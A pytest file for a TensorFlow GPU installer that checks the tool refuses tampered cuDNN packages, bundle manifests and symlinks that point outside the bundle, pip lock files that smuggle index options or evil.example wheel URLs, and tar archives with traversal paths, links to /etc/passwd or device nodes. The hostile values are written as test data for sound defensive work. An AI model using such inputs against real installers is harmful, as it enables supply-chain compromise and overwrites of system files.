"""Every byte verified, from every source: conda archives from file:// channels and bundles, bundle
manifests that point outside, locks whose bodies smuggle options, cuDNN archives that escape."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import sys
import tarfile
from pathlib import Path

import condachannel
import pytest
import wheelhouse

from tfgpu.errors import UsageError
from tfgpu.lock.pip import lockfile as pip_lock

from .conftest import changed, snapshot

PY = f"{sys.version_info.major}.{sys.version_info.minor}"
DRIVER = "535.104.05"


def tamper_cudnn(channel: Path) -> Path:
    """Replace the CUDA 11 cudnn archive of a channel with a real package holding other bytes,
    repodata untouched (what someone with write access to a mirror could do)."""
    original = next((channel / "linux-64").glob("cudnn-8.9.7.29-cuda118*"))
    with condachannel.tempfile.TemporaryDirectory() as tmp:
        evil = condachannel.Package(
            "cudnn",
            "8.9.7.29",
            original.name.split("-")[-1].removesuffix(".tar.bz2"),
            depends=["cudatoolkit 11.*"],
            files={"lib/libcudnn.so.8": b"EVIL BYTES\n"},
        )
        built = condachannel.build_package(evil, Path(tmp), {})
        shutil.copyfile(built, original)
    return original


@pytest.fixture
def channel_copy(sandbox, lock_channel) -> Path:
    copy = sandbox / "channel"
    shutil.copytree(lock_channel, copy)
    return copy


@pytest.fixture
def tf_wheels(sandbox) -> Path:
    wheels = sandbox / "wheels"
    wheelhouse.wheel(
        wheels,
        "tensorflow",
        "2.13.1",
        {"tensorflow/__init__.py": b"__version__ = '2.13.1'\n"},
        requires=["numpy-stub>=1"],
    )
    wheelhouse.wheel(wheels, "numpy-stub", "1.2.3", {"numpy_stub/__init__.py": b""})
    return wheels


def test_a_replaced_package_in_a_file_channel_is_refused(cli, sandbox, channel_copy, tf_wheels):
    tamper_cudnn(channel_copy)
    before = snapshot(sandbox)
    done = cli(
        "--tf",
        "2.13",
        "--mode",
        "conda",
        "--python",
        PY,
        "--prefix",
        str(sandbox / "env"),
        "--channel",
        str(channel_copy),
        "--driver",
        DRIVER,
        "--find-links",
        str(tf_wheels),
        "--offline",
        "--no-verify",
        "--json",
    )
    assert (done.code, done.error) == (1, "checksum-mismatch")
    assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []
    # and nothing extracted from it reached the package cache that later envs link from
    assert not [p for p in (sandbox / "cache").rglob("libcudnn.so.8") if b"EVIL" in p.read_bytes()]


def test_a_replaced_package_is_refused_through_a_conda_lock(cli, sandbox, channel_copy, lock_index):
    env = {"TFGPU_INDEX_URL": lock_index}
    lock = sandbox / "conda-lock.yml"
    done = cli(
        "lock",
        "--tf",
        "2.13",
        "--mode",
        "conda",
        "--python",
        PY,
        "--no-detect",
        "--platform",
        "linux-64",
        "--channel",
        str(channel_copy),
        "-o",
        str(lock),
        "--json",
        env=env,
    )
    assert done.code == 0, done.out
    tamper_cudnn(channel_copy)
    done = cli("create", "--from-lock", str(lock), "--prefix", str(sandbox / "env"), "--no-verify", "--json", env=env)
    assert (done.code, done.error) == (1, "checksum-mismatch")
    assert not (sandbox / "env").exists()


@pytest.fixture(scope="module")
def conda_bundle(tmp_path_factory, lock_channel, lock_index) -> Path:
    """A real conda bundle, built by the tool (in this process: the cases are about reading it)."""
    import os

    from conftest import run_tool

    root = tmp_path_factory.mktemp("hostile-conda-bundle")
    env = dict(
        os.environ,
        TFGPU_INDEX_URL=lock_index,
        TFGPU_CACHE_DIR=str(root / "cache"),
        TFGPU_LOG_DIR=str(root / "logs"),
        TFGPU_BUNDLE_TOOL="0",
    )
    done = run_tool(
        *("bundle", "--tf", "2.13", "--mode", "conda", "--python", PY, "--no-detect", "--platform", "linux-64"),
        *("--channel", str(lock_channel), "-o", str(root / "bundle")),
        env=env,
    )
    assert done.returncode == 0, done.stderr
    return root / "bundle"


def bundle_copy(source: Path, sandbox: Path) -> Path:
    target = sandbox / "bundle"
    shutil.copytree(source, target, symlinks=True)
    return target


def test_a_replaced_package_in_a_conda_bundle_with_a_rewritten_manifest_is_refused(cli, sandbox, conda_bundle):
    """The manifest's own check is recomputed by the attacker: the lock's sha256 still catches it."""
    bundle = bundle_copy(conda_bundle, sandbox)
    archive = tamper_cudnn(bundle / "channel")
    manifest = json.loads((bundle / "bundle.json").read_text())
    name = archive.relative_to(bundle).as_posix()
    manifest["files"][name] = {
        "sha256": hashlib.sha256(archive.read_bytes()).hexdigest(),
        "size": archive.stat().st_size,
    }
    (bundle / "bundle.json").write_text(json.dumps(manifest))
    done = cli("create", "--from-bundle", str(bundle), "--prefix", str(sandbox / "env"), "--no-verify", "--json")
    assert (done.code, done.error) in ((1, "checksum-mismatch"), (3, "lock-hash-mismatch"))
    assert not (sandbox / "env").exists()


def _manifest_edit(bundle: Path, edit) -> None:
    path = bundle / "bundle.json"
    manifest = json.loads(path.read_text())
    path.write_text(json.dumps(edit(manifest)))


OUTSIDE = {
    "lock-absolute": lambda m, out: {**m, "lock": str(out / "outside.yml")},
    "lock-dot-dot": lambda m, out: {**m, "lock": "../outside.yml"},
    "lock-in-a-subdir": lambda m, out: {**m, "lock": "wheels/conda-lock.yml"},
    "lock-missing": lambda m, out: {k: v for k, v in m.items() if k != "lock"},
    "lock-not-a-string": lambda m, out: {**m, "lock": ["conda-lock.yml"]},
    "entry-dot-dot": lambda m, out: {**m, "files": {**m["files"], "../outside.yml": {"sha256": "0" * 64, "size": 1}}},
    "entry-absolute": lambda m, out: {
        **m,
        "files": {**m["files"], str(out / "outside.yml"): {"sha256": "0" * 64, "size": 1}},
    },
    "entry-backslash": lambda m, out: {**m, "files": {**m["files"], "wheels\\..\\x": {"sha256": "0" * 64, "size": 1}}},
    "files-a-list": lambda m, out: {**m, "files": list(m["files"])},
    "files-empty": lambda m, out: {**m, "files": {}},
    "size-a-string": lambda m, out: {**m, "files": {k: {**v, "size": str(v["size"])} for k, v in m["files"].items()}},
    "sha-not-hex": lambda m, out: {**m, "files": {k: {**v, "sha256": "z" * 64} for k, v in m["files"].items()}},
    "manifest-a-list": lambda m, out: [m],
}


@pytest.mark.parametrize("edit", OUTSIDE, ids=list(OUTSIDE))
def test_bundle_manifests_that_point_outside_or_are_malformed(cli, sandbox, conda_bundle, edit):
    bundle = bundle_copy(conda_bundle, sandbox)
    (sandbox / "outside.yml").write_text((bundle / "conda-lock.yml").read_text())
    _manifest_edit(bundle, lambda m: OUTSIDE[edit](m, sandbox))
    before = snapshot(sandbox)
    done = cli("create", "--from-bundle", str(bundle), "--prefix", str(sandbox / "env"), "--no-verify", "--json")
    assert (done.code, done.error) == (3, "bundle-corrupt"), done.out
    assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []


@pytest.mark.parametrize("where", ["wheels-entry", "channel-entry", "wheels-dir"])
def test_links_out_of_a_bundle_are_refused(cli, sandbox, conda_bundle, where):
    bundle = bundle_copy(conda_bundle, sandbox)
    outside = sandbox / "outside"
    outside.mkdir()
    if where == "wheels-dir":
        shutil.rmtree(bundle / "wheels")
        (bundle / "wheels").symlink_to(outside)
    elif where == "wheels-entry":
        (bundle / "wheels" / "extra.whl").symlink_to(outside / "extra.whl")
    else:
        (bundle / "channel" / "linux-64" / "extra.tar.bz2").symlink_to("/etc/passwd")
    done = cli("create", "--from-bundle", str(bundle), "--prefix", str(sandbox / "env"), "--no-verify", "--json")
    assert (done.code, done.error) == (3, "bundle-corrupt") and "symbolic link" in done.out


def test_a_manifest_that_is_not_utf8_is_an_incomplete_bundle(cli, sandbox, conda_bundle):
    bundle = bundle_copy(conda_bundle, sandbox)
    (bundle / "bundle.json").write_bytes(b"\xff\xfe{")
    done = cli("create", "--from-bundle", str(bundle), "--prefix", str(sandbox / "env"), "--no-verify", "--json")
    assert (done.code, done.error) == (3, "bundle-incomplete")


# --- pip lock bodies --------------------------------------------------------------------------


def _pip_lock(sandbox: Path, extra: str = "", index: str | None = None) -> Path:
    """A real lock record with a body whose checksum is recomputed after the edit (as an attacker can)."""
    meta = {
        "format": pip_lock.FORMAT,
        "tool": "tfgpu-install",
        "tool_version": "0",
        "mode": "pip",
        "platform": "linux-64",
        "python_platform": "x86_64-manylinux_2_28",
        "python": PY,
        "index": index or "https://pypi.org/simple",
        "cpu_only": False,
        "inputs_sha256": "0" * 64,
        "resolution": {
            "tensorflow": "2.21.0",
            "package": "tensorflow",
            "python": PY,
            "mode": "pip",
            "os": "linux",
            "arch": "x86_64",
            "platform": "linux_x86_64",
            "accelerator": "cuda",
            "cuda": "12.5",
            "cuda_build": "12.5.1",
            "cudnn": "9.3",
            "min_driver": "525.60.13",
            "toolkit_driver": "555.42.02",
            "compute_capabilities": [],
            "requirements": ["tensorflow"],
        },
    }
    body = "tensorflow==2.21.0 \\\n    --hash=sha256:" + "a" * 64 + "\n" + extra
    path = sandbox / "tfgpu-lock.linux-64.txt"
    path.write_text(pip_lock.render(meta, body, str(path)))
    return path


LOCK_LINES = {
    "index-url": "--index-url http://evil.example/simple\n",
    "extra-index-url": "--extra-index-url=http://evil.example/simple\n",
    "find-links": "--find-links /tmp/evil\n",
    "editable": "-e /tmp/evil\n",
    "include": "-r /tmp/evil.txt\n",
    "constraint": "-c /tmp/evil.txt\n",
    "trusted-host": "--trusted-host evil.example\n",
    "direct-url": "evil @ https://evil.example/evil-1.0-py3-none-any.whl \\\n    --hash=sha256:" + "b" * 64 + "\n",
    "unpinned": "evil>=1.0 \\\n    --hash=sha256:" + "b" * 64 + "\n",
    "option-after-pin": "evil==1.0 --index-url http://evil.example/simple\n",
    "no-hash-form": "    --hash=md5:" + "b" * 32 + "\n",
}


@pytest.mark.parametrize("line", LOCK_LINES.values(), ids=list(LOCK_LINES))
def test_lock_bodies_hold_pins_and_hashes_only(cli, sandbox, line):
    done = cli(
        "create",
        "--from-lock",
        str(_pip_lock(sandbox, line)),
        "--prefix",
        str(sandbox / "env"),
        "--no-verify",
        "--json",
    )
    assert (done.code, done.error) == (2, "lock-has-options")
    assert not (sandbox / "env").exists()


@pytest.mark.parametrize(
    "index, code",
    [("http://evil.example/simple", "insecure-url"), ("ftp://evil.example/", "bad-url"), ("https://a b/", "bad-url")],
)
def test_a_lock_recording_an_index_that_is_not_https_is_refused(cli, sandbox, index, code):
    done = cli(
        "create",
        "--from-lock",
        str(_pip_lock(sandbox, index=index)),
        "--prefix",
        str(sandbox / "env"),
        "--no-verify",
        "--json",
    )
    assert (done.code, done.error) == (2, code)


def test_from_lock_installs_from_the_index_the_lock_records(sandbox, monkeypatch):
    """The recorded index is what uv is told to use, and the user's uv index settings are blanked."""
    from tfgpu.envs.location import locate
    from tfgpu.installers.base import Options
    from tfgpu.installers.pip import PipBackend
    from tfgpu.lock import prepare
    from tfgpu.settings import Selectors

    lock = _pip_lock(sandbox, index="https://mirror.example/simple")
    monkeypatch.setattr("tfgpu.lock.pip.install.check_platform", lambda lock: None)
    resolution, options, source, _ = prepare(Selectors(), Options(), from_lock=str(lock))
    backend = PipBackend("/bin/uv", sandbox / "cache", sys.executable)
    steps = backend.plan(resolution, locate(None, str(sandbox / "env"), False), options, source, {})
    install = next(step for step in steps if step.argv[1:3] == ("pip", "install"))
    at = install.argv.index("--default-index")
    assert install.argv[at + 1] == "https://mirror.example/simple" and "--no-config" in install.argv
    assert dict(install.env)["UV_INDEX_URL"] == "" and dict(install.env)["UV_EXTRA_INDEX_URL"] == ""


# --- cuDNN archives ---------------------------------------------------------------------------


def _archive(path: Path, members) -> Path:
    with tarfile.open(path, "w:xz") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def _file(name: str, data: bytes = b"x"):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def _special(name: str, kind, linkname: str = ""):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    return info, None


TOP = "cudnn-linux-x86_64-8.9.7.29_cuda11-archive"
ARCHIVES = {
    "absolute-name": [_file("/etc/cron.d/evil")],
    "dot-dot-name": [_file(f"{TOP}/lib/../../../../evil")],
    "symlink-absolute": [_special(f"{TOP}/lib/libcudnn.so.8", tarfile.SYMTYPE, "/etc/passwd")],
    "symlink-escaping": [_special(f"{TOP}/lib/libcudnn.so.8", tarfile.SYMTYPE, "../../../../etc/passwd")],
    "hardlink-outside": [_special(f"{TOP}/lib/libcudnn.so.8", tarfile.LNKTYPE, "/etc/passwd")],
    "hardlink-to-skipped-member": [
        _file(f"{TOP}/LICENSE"),
        _special(f"{TOP}/lib/libcudnn.so.8", tarfile.LNKTYPE, f"{TOP}/LICENSE"),
    ],
    "char-device": [_special(f"{TOP}/lib/null", tarfile.CHRTYPE)],
    "block-device": [_special(f"{TOP}/lib/sda", tarfile.BLKTYPE)],
    "fifo": [_special(f"{TOP}/lib/pipe", tarfile.FIFOTYPE)],
}


@pytest.mark.parametrize("case", ARCHIVES, ids=list(ARCHIVES))
def test_unsafe_cudnn_archives_are_refused_before_anything_is_written(tmp_path, case):
    from tfgpu.engines.nvidia import unpack_cudnn
    from tfgpu.errors import OperationError

    archive = _archive(tmp_path / "cudnn.tar.xz", [_file(f"{TOP}/include/cudnn.h"), *ARCHIVES[case]])
    toolkit = tmp_path / "toolkit"
    toolkit.mkdir()
    with pytest.raises(OperationError) as caught:
        unpack_cudnn(archive, toolkit)
    assert caught.value.code == "cudnn-archive-unsafe"
    assert list(toolkit.iterdir()) == [] and not (tmp_path / "evil").exists()


@pytest.mark.parametrize("damage", ["truncated", "not-an-archive"])
def test_damaged_cudnn_archives_are_corrupt_not_a_traceback(tmp_path, damage):
    from tfgpu.engines.nvidia import unpack_cudnn
    from tfgpu.errors import OperationError

    archive = _archive(
        tmp_path / "cudnn.tar.xz",
        [_file(f"{TOP}/include/cudnn.h", b"y" * 100_000), _file(f"{TOP}/lib/libcudnn.so.8", bytes(range(256)) * 400)],
    )
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 2] if damage == "truncated" else b"not a tar at all" * 100)
    toolkit = tmp_path / "toolkit"
    toolkit.mkdir()
    with pytest.raises(OperationError) as caught:
        unpack_cudnn(archive, toolkit)
    assert caught.value.code == "cudnn-archive-corrupt"


def test_a_safe_archive_with_internal_links_unpacks(tmp_path):
    from tfgpu.engines.nvidia import unpack_cudnn

    archive = _archive(
        tmp_path / "cudnn.tar.xz",
        [
            _file(f"{TOP}/include/cudnn.h"),
            _file(f"{TOP}/lib/libcudnn.so.8.9.7", b"ELF"),
            _special(f"{TOP}/lib/libcudnn.so.8", tarfile.SYMTYPE, "libcudnn.so.8.9.7"),
            _file(f"{TOP}/LICENSE"),
        ],
    )
    toolkit = tmp_path / "toolkit"
    assert unpack_cudnn(archive, toolkit) == 3
    assert (toolkit / "lib64" / "libcudnn.so.8").resolve().read_bytes() == b"ELF"
    assert not (toolkit / "LICENSE").exists()


# Plain HTTP: whoever is on the path serves the checksums as well as the bytes (repodata.json, an
# index page), so a channel or wheel source over http:// is refused before anything is fetched or
# built (insecure-url), unless the user names the host (--insecure-host); a URL the engines could
# read differently is bad-url (tests/hostile/test_hostile_urls.py has the rest).
PLAIN_HTTP = {
    "http://mirror.example.org/conda-forge": "insecure-url",
    "http://10.0.0.5/ch": "insecure-url",
    "http://[::ffff:10.0.0.5]/ch": "insecure-url",
    "ftp://mirror.example.org/ch": "bad-url",
    "http://[unclosed/ch": "bad-url",
}


@pytest.mark.parametrize("channel", PLAIN_HTTP)
@pytest.mark.parametrize("command", ["create", "lock"])
def test_a_channel_over_plain_http_is_refused(cli, sandbox, command, channel):
    before = snapshot(sandbox)
    target = (
        ("--prefix", str(sandbox / "env"), "--no-verify")
        if command == "create"
        else ("-o", str(sandbox / "conda-lock.yml"), "--platform", "linux-64")
    )
    done = cli(
        command,
        "--tf",
        "2.13",
        "--mode",
        "conda",
        "--python",
        PY,
        "--driver",
        DRIVER,
        "--channel",
        channel,
        *target,
        "--json",
    )
    assert (done.code, done.error) == (2, PLAIN_HTTP[channel]), done.out
    assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []


@pytest.mark.parametrize("source", ["http://mirror.example.org/wheels/", "http://192.168.1.10/simple/tensorflow/"])
def test_wheels_over_plain_http_are_refused_for_create_and_repair(cli, sandbox, source):
    before = snapshot(sandbox)
    create = cli(
        "--tf",
        "2.21",
        "--mode",
        "pip",
        "--prefix",
        str(sandbox / "env"),
        "--find-links",
        source,
        "--no-verify",
        "--json",
    )
    repair = cli("repair", "--prefix", str(sandbox), "--find-links", source, "--yes", "--json")
    assert [(d.code, d.error) for d in (create, repair)] == [(2, "insecure-url")] * 2
    assert changed(before, snapshot(sandbox), allowed=("logs", "cache")) == []


def test_a_named_loopback_channel_passes_the_transport_rule():
    from tfgpu.doors import urls
    from tfgpu.engines import rattler_engine

    assert rattler_engine.channel_urls(
        ("http://127.0.0.1:8000/ch/", "https://conda.anaconda.org/x", "file:///srv/ch")
    ) == [
        "http://127.0.0.1:8000/ch",
        "https://conda.anaconda.org/x",
        "file:///srv/ch",
    ]
    urls.trust(["localhost", "::1", "127.3.4.5"])
    allowed = []
    for url in (
        "http://localhost/x",
        "http://[::1]/x",
        "http://127.3.4.5/x",
        "https://a/x",
        "http://127.0.0.1/x",
        "http://localhost.evil.org/x",
        "http://127.0.0.1.nip.io/x",
    ):
        try:
            allowed.append(bool(urls.checked(url, "t")))
        except UsageError:
            allowed.append(False)
    assert allowed == [True, True, True, True, False, False, False]
